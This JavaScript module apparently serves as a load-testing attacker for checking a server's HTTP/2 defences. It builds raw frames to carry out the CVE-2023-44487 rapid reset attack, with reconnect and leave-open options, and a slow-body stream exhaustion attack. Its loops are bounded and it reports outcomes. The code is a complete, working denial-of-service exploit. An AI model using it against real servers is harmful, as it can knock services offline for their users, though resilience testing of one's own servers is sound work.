// An HTTP/2 attacker written frame by frame, run as a child process (node h2RawAttacker.mjs
// '<options as JSON>') so that its own work does not share the event loop of the server it
// attacks. Plain JavaScript: the child starts with `node` alone, no compiler.
//
//   mode "reset":    each connection sends HEADERS (END_STREAM) and RST_STREAM(CANCEL) for `batch`
//                    streams at a time, as CVE-2023-44487 does, until the server sends GOAWAY or
//                    `maxStreams` are sent; with `reconnect`, it then opens a new connection, and with
//                    `leaveOpen` it leaves the old one open and unread (see `linger` for the count);
//                    `compact` encodes headers as an HPACK encoder would, `together` sends the preface
//                    with the first batch.
//   mode "slowBody": each connection opens `streams` streams (POST unless `method` says) and sends one body byte per
//                    stream every `everyMillis`, never END_STREAM.
//
// Every loop is bounded, and the run stops, as childRun.mjs says.
import { options, report, started, stopped, stopping, target } from "./childRun.mjs"
import { connection as h2Connection, frame, preface, u32 } from "./h2Frames.mjs"
import { compactHeaderBlock, literalBlock, statusOf } from "./h2Hpack.mjs"

const randomId = () => crypto.randomUUID()
const headerBlock = (method, path) => literalBlock(method, path, target.host, options.token)
const compactBlock = (path, first) => compactHeaderBlock(path, first, target.host)

/** A connection to `target` (see h2Frames.mjs); with H2_ATTACKER_DEBUG, every frame on stderr and every GOAWAY's code. */
const connection = (onFrame, prefaceLater = false) => {
  const state = h2Connection(target, undefined, (type, flags, stream, payload) => {
    if (process.env.H2_ATTACKER_DEBUG) process.stderr.write(`frame ${type} flags ${flags} stream ${stream} ${type === 7 ? payload.toString("hex") : payload.length}\n`)
    if (type === 7 && process.env.H2_ATTACKER_DEBUG) (state.goaways ??= []).push(payload.readUInt32BE(4))
    onFrame(type, flags, stream, payload)
  }, prefaceLater)
  return state
}

const sleep = (millis) => new Promise((resolve) => setTimeout(resolve, millis))

/** One connection's rapid reset: batches of HEADERS + RST_STREAM until GOAWAY, the cap, or stop. */
const resetConnection = async () => {
  // With `together`, the preface goes in one write with the first batch, as a client that writes
  // before its connection is up does: the server's first read holds streams, not only the preface.
  const state = connection(() => {}, options.together === true)
  await new Promise((resolve) => state.socket.once("connect", resolve).once("close", resolve))
  let next = 1
  const batch = options.batch ?? 100
  const maxStreams = options.maxStreams ?? 50_000
  while (!stopped && !state.closed && state.goaway === undefined && (next - 1) / 2 < maxStreams) {
    const frames = []
    for (let i = 0; i < batch; i++, next += 2) {
      const path = options.path ?? `/orgs/${randomId()}`
      const block = options.compact === true ? compactBlock(path, next === 1) : headerBlock("GET", path)
      frames.push(frame(1, 0x5, next, block), frame(3, 0, next, u32(8)))
    }
    if (next === batch * 2 + 1 && options.together === true) frames.unshift(preface)
    // Waits for the socket to drain, as a client that does not want to buffer without bound.
    if (!state.socket.write(Buffer.concat(frames))) {
      await Promise.race([stopping, new Promise((resolve) => state.socket.once("drain", resolve).once("close", resolve))])
    }
    else await new Promise((resolve) => setImmediate(resolve))
  }
  // A moment for a GOAWAY already on its way, then the connection is ours to drop, or, with
  // `leaveOpen`, to hold: open and unread, for the server to close.
  if (state.goaway === undefined && !state.closed) await sleep(200)
  if (options.leaveOpen === true) {
    state.socket.pause()
    leftOpen.push(state)
  }
  else state.socket.destroy()
  const sent = (next - 1) / 2
  return { sent, processed: state.goaway === undefined ? sent : Math.min(sent, (state.goaway.lastStreamId + 1) / 2), goaway: state.goaway, ...(state.goaways ? { goaways: state.goaways } : {}) }
}

/** The connections `leaveOpen` holds: every one the attack opened, the last of each attacker's too. */
const leftOpen = []

/**
 * After the attack, with `leaveOpen`: reads every connection again (a paused socket does not see
 * the server's FIN or RST), and reports how many the server has not closed, every 250 ms for
 * `lingerMillis` (or until none is open); then drops them all.
 */
const linger = async () => {
  for (const state of leftOpen) state.socket.resume()
  const began = Date.now()
  const lingerMillis = options.lingerMillis ?? 3_000
  let open
  do {
    await sleep(250)
    open = leftOpen.filter((state) => !state.closed).length
    report({ lingering: Date.now() - began, connections: leftOpen.length, open })
  } while (open > 0 && Date.now() - began < lingerMillis)
  for (const state of leftOpen) state.socket.destroy()
  return { connections: leftOpen.length, open, afterMillis: Date.now() - began }
}

const resetAttack = async () => {
  const attacker = async () => {
    const sessions = []
    do {
      const session = await resetConnection()
      sessions.push(session)
      report({ session: sessions.length, sent: session.sent, goaway: session.goaway ?? null, ...(session.goaways ? { goaways: session.goaways } : {}) })
      // A server that no longer accepts (or never did) ends this attacker rather than spinning.
      if (session.sent === 0) break
    } while (options.reconnect === true && !stopped && sessions.length < (options.maxReconnects ?? 10_000))
    return sessions
  }
  const perAttacker = await Promise.all(Array.from({ length: options.connections ?? 4 }, attacker))
  const sessions = perAttacker.flat()
  const attackMillis = Date.now() - started
  const lingered = options.leaveOpen === true ? await linger() : null
  report({
    done: true,
    millis: attackMillis,
    sessions: sessions.length,
    lingered,
    sent: sessions.reduce((sum, s) => sum + s.sent, 0),
    processed: sessions.reduce((sum, s) => sum + s.processed, 0),
    goawayCodes: sessions.map((s) => s.goaway?.code ?? null),
    firstSessions: sessions.slice(0, options.connections ?? 4)
  })
}

/** Many slow-body streams per connection; each stream's fate: still open, answered, reset. */
const slowBodyAttack = async () => {
  const perConnection = options.streams ?? 100
  const fates = []
  const goaways = []
  const states = await Promise.all(Array.from({ length: options.connections ?? 11 }, async () => {
    const streams = new Map()
    const state = connection((type, flags, stream, payload) => {
      const fate = streams.get(stream)
      if (fate === undefined) return
      if (type === 1 && fate.status === undefined) fate.status = statusOf(payload) ?? "unread"
      if (type === 3) fate.reset = payload.readUInt32BE(0)
      if ((type === 0 || type === 1) && flags & 1) fate.ended = true
    })
    await new Promise((resolve) => state.socket.once("connect", resolve).once("close", resolve))
    const frames = []
    for (let i = 0, id = 1; i < perConnection; i++, id += 2) {
      const fate = { status: undefined, reset: undefined, ended: false }
      streams.set(id, fate)
      fates.push(fate)
      frames.push(frame(1, 0x4, id, headerBlock(options.method ?? "POST", options.path ?? `/orgs/${randomId()}`)), frame(0, 0, id, Buffer.from("{")))
    }
    if (!state.socket.destroyed) state.socket.write(Buffer.concat(frames))
    return { state, streams }
  }))
  const counts = () => {
    const byOutcome = {}
    for (const fate of fates) {
      const outcome = fate.reset !== undefined
        ? `reset ${fate.reset}${fate.status === undefined ? "" : ` after ${fate.status}`}`
        : fate.status !== undefined ? `answered ${fate.status}${fate.ended ? "" : " (open)"}` : "open"
      byOutcome[outcome] = (byOutcome[outcome] ?? 0) + 1
    }
    const closed = states.filter((s) => s.state.closed).length
    for (const s of states) if (s.state.goaway !== undefined && !goaways.includes(s.state)) goaways.push(s.state)
    return { streams: fates.length, byOutcome, connectionsClosed: closed, goawayCodes: goaways.map((s) => s.goaway.code) }
  }
  report({ opened: fates.length, ...counts() })
  const dribble = setInterval(() => {
    for (const { state, streams } of states) {
      if (state.socket.destroyed) continue
      const frames = []
      for (const [id, fate] of streams) if (fate.reset === undefined && !fate.ended) frames.push(frame(0, 0, id, Buffer.from(" ")))
      if (frames.length > 0) state.socket.write(Buffer.concat(frames))
    }
  }, options.everyMillis ?? 5_000)
  const progress = setInterval(() => report({ millis: Date.now() - started, ...counts() }), 250)
  await stopping
  clearInterval(dribble)
  clearInterval(progress)
  report({ done: true, millis: Date.now() - started, ...counts() })
  for (const { state } of states) state.socket.destroy()
}

await (options.mode === "reset" ? resetAttack() : slowBodyAttack())
process.exit(0)
